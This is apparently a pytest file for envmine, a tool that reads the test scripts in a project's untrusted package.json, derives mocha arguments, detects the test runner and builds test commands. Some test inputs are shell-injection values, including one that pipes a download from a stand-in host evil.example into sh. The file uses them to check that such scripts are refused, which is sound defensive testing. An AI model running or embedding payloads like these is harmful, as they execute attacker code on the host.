"""The JavaScript/TypeScript hook gives mocha the arguments of the project's own `npm test`
(its test files, --require, --timeout), less the reporter the test command sets; package.json
is untrusted, so an argument with a shell character in it drops them all."""

from __future__ import annotations

import json

import pytest

from envmine.builders.lang_env import plan_language
from envmine.languages import load_language
from envmine.languages.hooks import node
from envmine.languages.hooks.node import script_args

MOCHA_REPORT = "--exit --reporter json --reporter-option output=/tmp/envmine-results/mocha.json;"


@pytest.mark.parametrize(("scripts", "args"), [
    # ws: coverage wrapper in front, test files named on the command line
    ({"test": "nyc --reporter=lcov --reporter=text mocha --throw-deprecation test/*.test.js"},
     "--throw-deprecation test/*.test.js"),
    # axios: `npm test` runs lint first, then mocha behind `npm run`, behind a node wrapper
    ({"test": "npm run test:eslint && npm run test:mocha && npm run test:karma", "test:eslint": "eslint lib",
      "test:mocha": "node bin/ssl_hotfix.js mocha test/unit/**/*.js --timeout 30000 --exit",
      "test:karma": "karma start"},
     "test/unit/**/*.js --timeout 30000 --exit"),
    # express: the project's reporter is dropped (with its value), the rest kept in order
    ({"test": "mocha --require test/support/env --reporter spec --check-leaks test/ test/acceptance/"},
     "--require test/support/env --check-leaks test/ test/acceptance/"),
    ({"test": "mocha -R=dot --watch -O foo=bar test"}, "test"),
    # a quoted glob stays quoted: mocha expands it (recursively), not the shell
    ({"test": "yarn unit", "unit": "mocha 'test/**/*.spec.js'"}, "'test/**/*.spec.js'"),
    ({"test": "npm run lint && mocha", "lint": "eslint ."}, ""),
    # no `test` script that reaches mocha: another test* script that does
    ({"test": "echo no tests", "test:node": "_mocha test/node"}, "test/node"),
])
def test_the_runner_gets_the_arguments_of_the_projects_own_test_script(scripts, args):
    assert script_args(scripts, "mocha") == args


@pytest.mark.parametrize("scripts", [
    {"test": "jest"},
    {"test": "npm run a", "a": "npm run test"},  # a loop
    {"test": "mocha test/$(touch /tmp/pwned).js"},
    {"test": "mocha `id`"},
    {"test": "mocha 'a;b'"},
    {"test": "mocha test > /tmp/out"},
    {"test": "mocha \"unterminated"},
])
def test_no_usable_runner_command_gives_none(scripts):
    assert script_args(scripts, "mocha") is None


@pytest.mark.parametrize("language", ["javascript", "typescript"])
def test_the_mocha_test_command_carries_the_scripts_arguments(language):
    manifest = {"scripts": {"test": "nyc mocha --throw-deprecation test/*.test.js"}, "devDependencies": {"mocha": "^10"}}
    plan = plan_language(load_language(language), ["package.json"], {"package.json": json.dumps(manifest)})
    assert plan.framework == "mocha"
    assert plan.test_command.startswith(f"{{ npx --no-install mocha --throw-deprecation test/*.test.js {MOCHA_REPORT} ")
    assert plan.facts()["mocha_args"] == "--throw-deprecation test/*.test.js"


def test_an_unsafe_script_leaves_mocha_to_its_own_defaults():
    manifest = {"scripts": {"test": "mocha test/$(curl evil.example | sh)"}, "devDependencies": {"mocha": "^10"}}
    plan = plan_language(load_language("javascript"), ["package.json"], {"package.json": json.dumps(manifest)})
    assert plan.test_command.startswith(f"{{ npx --no-install mocha  {MOCHA_REPORT} ")
    assert "mocha_args" not in plan.facts()


@pytest.mark.parametrize("text", ["", "not json", "[]", '{"scripts": ["mocha"]}', '{"scripts": {"test": 3}}'])
def test_a_package_json_without_usable_scripts_gives_no_arguments(text):
    planned = node.plan({"package.json": text}, "")
    assert (planned.context, planned.facts) == ({"script_args": {}, "pretest": False}, {})


def test_mocha_before_9_has_its_stdout_kept_as_the_report():
    # mocha 8 ignores `--reporter-option output=` and prints the JSON among the tests' output
    manifest = {"scripts": {"test": "mocha"}, "devDependencies": {"mocha": "^8.4.0"}}
    plan = plan_language(load_language("javascript"), ["package.json"], {"package.json": json.dumps(manifest)})
    assert ("echo $? > /tmp/envmine-mocha.rc; } | tee /tmp/envmine-mocha.out; [ -s /tmp/envmine-results/mocha.json ] "
            "|| cp /tmp/envmine-mocha.out /tmp/envmine-results/mocha.json;") in plan.test_command
    assert plan.test_command.endswith('exit "$(cat /tmp/envmine-mocha.rc)"')


@pytest.mark.parametrize("language", ["javascript", "typescript"])
def test_the_projects_pretest_runs_before_the_tests_as_npm_test_would(language):
    # yargs: `pretest` compiles the TypeScript that the mocha tests import from build/
    manifest = {"scripts": {"pretest": "npm run compile -- -p tsconfig.test.json", "compile": "tsc",
                            "test": "c8 mocha ./test/*.mjs"}, "devDependencies": {"mocha": "^10"}}
    plan = plan_language(load_language(language), ["package.json"], {"package.json": json.dumps(manifest)})
    assert plan.test_command.startswith("npm run pretest > /tmp/envmine-pretest.log 2>&1 || "
                                        "tail -n 30 /tmp/envmine-pretest.log; { npx --no-install mocha ./test/*.mjs ")
    without = plan_language(load_language(language), ["package.json"],
                            {"package.json": json.dumps({**manifest, "scripts": {"test": "mocha"}})})
    assert without.test_command.startswith("{ npx --no-install mocha ")


@pytest.mark.parametrize(("scripts", "framework"), [
    ({"test": "npm run lint && jest --coverage", "lint": "eslint ."}, "jest"),
    ({"test": "node --test --enable-source-maps dist-node/test/*.js"}, "node-test"),
    ({"test": "npm run unit", "unit": "vitest run"}, "vitest"),
    ({"test": "xo && tsc --noEmit && ava"}, ""),  # got: ava is no framework here
    ({"test": "npm run a", "a": "npm run test"}, ""),
    ({}, ""),
])
def test_the_framework_is_the_runner_npm_test_starts(scripts, framework):
    assert node.test_framework(scripts) == framework


def test_the_runner_of_npm_test_wins_over_detection_order():
    # uuid: a `jest` key (its examples) but `npm test` runs node's runner over the pretest build
    manifest = {"scripts": {"pretest": "npm run build", "build": "./scripts/build.sh",
                            "test": "node --test --enable-source-maps dist-node/test/*.js"},
                "devDependencies": {"jest": "29.7.0", "typescript": "5"}}
    plan = plan_language(load_language("typescript"), ["package.json"], {"package.json": json.dumps(manifest)})
    assert (plan.framework, plan.runner) == ("node-test", "node_test")
    assert plan.test_command.endswith("--test-reporter-destination=/tmp/envmine-results/node.tap "
                                      "--enable-source-maps dist-node/test/*.js")
    # JavaScript with jest and mocha installed: the one `npm test` runs
    both = {"scripts": {"test": "mocha test/"}, "devDependencies": {"jest": "29", "mocha": "10"}}
    plan = plan_language(load_language("javascript"), ["package.json"], {"package.json": json.dumps(both)})
    assert plan.framework == "mocha"
    # a runner npm test names but the tree does not detect is not taken on the hook's word
    bare = {"scripts": {"test": "vitest run"}, "devDependencies": {"jest": "29"}}
    plan = plan_language(load_language("javascript"), ["package.json"], {"package.json": json.dumps(bare)})
    assert plan.framework == "jest"
